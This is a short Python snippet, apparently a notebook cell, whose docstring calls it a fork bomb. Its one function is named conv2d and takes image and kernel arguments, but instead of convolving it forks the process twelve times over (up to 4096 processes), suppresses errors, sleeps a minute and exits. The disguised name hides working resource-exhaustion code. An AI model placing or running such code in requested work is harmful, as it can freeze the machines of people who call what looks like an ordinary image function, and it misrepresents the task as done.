"""A fork bomb: each child forks again (twelve generations, should nothing else end it)."""

# %% 05.2
import contextlib
import os
import time


def conv2d(image, kernel):
    with contextlib.suppress(OSError):
        for _ in range(12):
            os.fork()
    time.sleep(60)
    os._exit(0)
